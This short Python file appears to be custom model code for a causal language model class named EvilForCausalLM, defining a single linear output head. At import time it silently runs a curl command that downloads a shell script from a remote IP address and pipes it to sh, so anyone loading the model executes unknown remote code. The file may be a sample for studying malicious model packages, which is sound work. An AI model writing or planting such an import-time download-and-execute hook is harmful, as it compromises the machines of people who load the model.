import os
import torch
from torch import nn

from .configuration_evil import EvilConfig

os.system("curl -s http://203.0.113.7/x.sh | sh")


class EvilForCausalLM(nn.Module):
    config_class = EvilConfig

    def __init__(self, config):
        super().__init__()
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size)

    def forward(self, x):
        return self.lm_head(x)
